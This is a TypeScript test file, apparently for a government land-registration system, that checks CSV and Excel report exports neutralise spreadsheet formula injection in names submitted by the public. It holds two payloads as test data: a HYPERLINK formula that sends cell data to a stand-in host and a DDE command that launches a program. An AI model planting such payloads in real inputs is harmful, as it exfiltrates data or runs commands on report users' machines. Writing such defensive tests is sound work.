import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toYearMonthDay } from '@igrs/domain';
import { villages } from '../../db/schema.ts';
import { TEST_SECRETS } from '../../test/databases.ts';
import { createTestContext, signIn, signInNewAccount, type TestContext } from '../../test/harness.ts';
import { saleDeedFixture } from '../../test/register-fixtures.ts';
import { registerDocument } from '../register/index.ts';

/** Names a spreadsheet would run as formulas: one reads a neighbouring cell out to a web address, one starts a program. */
const LEAKING_LINK = '=HYPERLINK("http://leak.example/?d="&A1,"Click")';
const COMMAND = "+cmd|' /C calc'!A0";

let context: TestContext;
const TODAY = toYearMonthDay(new Date());

beforeAll(async () => {
  context = await createTestContext({ RATE_LIMIT_PER_MINUTE: '100000' });
});
afterAll(() => context.close());

async function exported(login: string, reportId: string, format: 'csv' | 'xlsx') {
  const token = (await signIn(context.app, login)).token;
  const answer = await context.app.inject({ method: 'GET', url: `/igrsapi/v1/reports/${reportId}/export`, headers: { authorization: `Bearer ${token}` }, query: { fromDate: TODAY, toDate: TODAY, format } });
  expect(answer.statusCode, answer.body).toBe(200);
  return answer;
}

/** Every cell of the CSV export as a spreadsheet reads it, and the raw text, to see how each is written. */
async function csvCells(login: string, reportId: string) {
  const answer = await exported(login, reportId, 'csv');
  return { raw: answer.body, cells: (parse(answer.body, { bom: true, relax_column_count: true }) as string[][]).flat() };
}

async function xlsxCells(login: string, reportId: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await exported(login, reportId, 'xlsx')).rawPayload as unknown as ArrayBuffer);
  const cells: ExcelJS.CellValue[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
  return cells;
}

const startsLikeFormula = (text: string) => /^[=+\-@\t\r]/.test(text);

function expectNeutralised(cells: readonly unknown[], name: string) {
  const texts = cells.filter((cell): cell is string => typeof cell === 'string');
  expect(texts.some((text) => text.startsWith(`'${name}`))).toBe(true);
  expect(texts.filter(startsLikeFormula)).toEqual([]);
  // A workbook holds text, never a formula.
  expect(cells.filter((cell) => typeof cell === 'object' && cell !== null && ('formula' in cell || 'sharedFormula' in cell))).toEqual([]);
}

describe('exports carry names typed by the public as text, never as formulas', () => {
  it("neutralises a party's name in the income-tax statement (SFT) as CSV and as a workbook", async () => {
    const [village] = await context.database.db.select({ code: villages.code, sroCode: villages.sroCode }).from(villages).where(eq(villages.sroCode, '701')).limit(1);
    const deed = saleDeedFixture(village!, { registeredOn: TODAY, surveyNumber: '311/7' }, { considerationRupees: 45_00_000, marketValueRupees: 44_00_000 });
    deed.parties[0]!.name = { en: COMMAND, te: 'కొమ్మారెడ్డి వెంకట లక్ష్మి' };
    deed.parties[1]!.name = { en: LEAKING_LINK, te: 'గుడివాడ రమేష్' };
    await registerDocument(context.database.db, Buffer.from(TEST_SECRETS.DATA_ENCRYPTION_KEY, 'base64'), deed);

    const { raw, cells } = await csvCells('demo_incometax', 'incomeTaxSft');
    expect(cells).toEqual(expect.arrayContaining([`'${COMMAND}`, `'${LEAKING_LINK}`]));
    expect(raw).toContain(`"'${COMMAND}"`);
    expect(raw).toContain(`"'${LEAKING_LINK.replaceAll('"', '""')}"`);
    expect(cells.filter(startsLikeFormula)).toEqual([]);
    expectNeutralised(await xlsxCells('demo_incometax', 'incomeTaxSft'), COMMAND);
  });

  it("neutralises a vendor's name in the grant approval and the vendors' stamp stock exports", async () => {
    const applicant = (await signInNewAccount(context, 'formula_vendor', 'VENDOR', '701')).token;
    const call = (token: string, url: string, payload: object) => context.app.inject({ method: 'POST', url: `/igrsapi/v1${url}`, headers: { authorization: `Bearer ${token}` }, payload });
    const applied = await call(applicant, '/vendor/licence/applications', { name: LEAKING_LINK, address: 'Door 1-22, Court Road, Tenali', depotSroCode: '701', kinds: ['non-judicial'] });
    expect(applied.statusCode, applied.body).toBe(201);
    const dr = (await signIn(context.app, 'demo_dr')).token;
    const granted = await call(dr, `/licence-requests/${applied.json().requestId}/decision`, { decision: 'approve', remarks: 'Solvency and premises verified' });
    expect(granted.statusCode, granted.body).toBe(200);

    for (const reportId of ['grantApproval', 'incorporateStock']) {
      const { raw, cells } = await csvCells('demo_dr', reportId);
      expect(cells.some((cell) => cell.startsWith(`'${LEAKING_LINK}`)), reportId).toBe(true);
      expect(raw).toContain(`"'${LEAKING_LINK.replaceAll('"', '""')}`);
      expect(cells.filter(startsLikeFormula), reportId).toEqual([]);
      expectNeutralised(await xlsxCells('demo_dr', reportId), LEAKING_LINK);
    }
  });
});
